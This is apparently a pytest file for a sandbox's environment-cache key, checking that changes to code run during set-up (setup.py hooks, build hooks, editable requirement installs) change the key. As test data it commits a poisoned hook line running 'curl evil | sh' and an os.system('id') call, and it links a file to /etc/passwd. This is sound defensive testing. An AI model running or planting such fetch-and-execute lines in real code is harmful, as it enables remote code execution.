"""The environment-cache key covers what set-up executes (issue 35, E26): when set-up runs code of
the tree (it installs the project, whose setup.py or build backend may import or exec any module;
a step runs a file of the tree; a requirement file installs a folder of it), the key covers every
file of the tree but the .git, test and documentation folders, so two trees whose executed set-up
code differs never share a cached environment. The same tree still hits, and so does a change to
tests or docs; a set-up that installs named packages only keeps hitting across code changes.
Real git repositories; the key function the set-up calls (sandbox/docker/envkey.py cache_key)."""
from __future__ import annotations

import shutil
from pathlib import Path

from gitrepo import commit, git, make_repo
from sandbox.docker.envkey import cache_key
from sandbox.setup import InstallStep

SELF = [InstallStep("pip install -e .", True)]
REQS = [InstallStep("pip install -r requirements.txt", True)]
SETUP_PY = ("from setuptools import setup\n"
            "exec(open('tools/version_hook.py').read())          # a module setup.py execs\n"
            "setup(name='app', version=VERSION, packages=['app'])\n")
HATCH = ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
         '[project]\nname = "app"\nversion = "1"\n[tool.hatch.build.hooks.custom]\n')


def key(repo: Path, steps=SELF) -> str:
    return cache_key("github.com/a/b (installation 7)", "img", steps, repo, as_of="2024-01", pins=None, env=None)


def project(root: Path, files: dict | None = None) -> Path:
    return make_repo(root, {"setup.py": SETUP_PY, "tools/version_hook.py": "VERSION = '1.0'\n",
                            "app/__init__.py": "", "requirements.txt": "six==1.16.0\n",
                            "tests/test_app.py": "def test_x():\n    pass\n", "docs/index.md": "# app\n",
                            **(files or {})})


def test_a_module_setup_py_execs_is_in_the_key(tmp_path):
    one, two = project(tmp_path / "one"), project(tmp_path / "two")
    assert key(one) == key(two)
    commit(two, {"tools/version_hook.py": "VERSION = '1.0'\nimport os; os.system('curl evil | sh')\n"}, "poison")
    assert key(one) != key(two)


def test_a_build_hook_is_in_the_key(tmp_path):
    files = {"pyproject.toml": HATCH, "hatch_build.py": "from hatchling.builders.hooks.plugin.interface import "
                                                         "BuildHookInterface\n\nclass Hook(BuildHookInterface):\n    pass\n"}
    one, two = project(tmp_path / "one", files), project(tmp_path / "two", files)
    (one / "setup.py").unlink()
    (two / "setup.py").unlink()
    assert key(one) == key(two)
    (two / "hatch_build.py").write_text((two / "hatch_build.py").read_text() + "import os\nos.system('id')\n")
    assert key(one) != key(two)


def test_a_requirement_file_that_installs_the_tree_puts_the_tree_in_the_key(tmp_path):
    one = project(tmp_path / "one", {"requirements.txt": "six==1.16.0\n-e .\n"})
    first = key(one, REQS)
    commit(one, {"tools/version_hook.py": "VERSION = '2.0'\n"}, "hook")
    assert key(one, REQS) != first


def test_the_same_tree_hits_and_tests_or_docs_do_not_change_the_key(tmp_path):
    one = project(tmp_path / "one")
    first = key(one)
    clone = tmp_path / "clone"
    shutil.copytree(one, clone)
    git(clone, "status")
    assert key(clone) == first                                   # another checkout of the same commit
    commit(one, {"tests/test_app.py": "def test_y():\n    pass\n", "docs/index.md": "# app, again\n"}, "t")
    assert key(one) == first
    commit(one, {"app/__init__.py": "X = 1\n"}, "code")
    assert key(one) != first                                     # the package setup.py may import


def test_a_set_up_of_named_packages_only_keeps_hitting_across_code_changes(tmp_path):
    one = project(tmp_path / "one")
    first = key(one, REQS)
    commit(one, {"app/__init__.py": "X = 1\n", "tools/version_hook.py": "VERSION = '3'\n"}, "code")
    assert key(one, REQS) == first


def test_a_link_in_the_tree_is_keyed_by_its_target_never_followed(tmp_path):
    one, two = project(tmp_path / "one"), project(tmp_path / "two")
    (one / "app" / "data").symlink_to("/etc/hostname")
    (two / "app" / "data").symlink_to("/etc/passwd")
    assert key(one) != key(two)
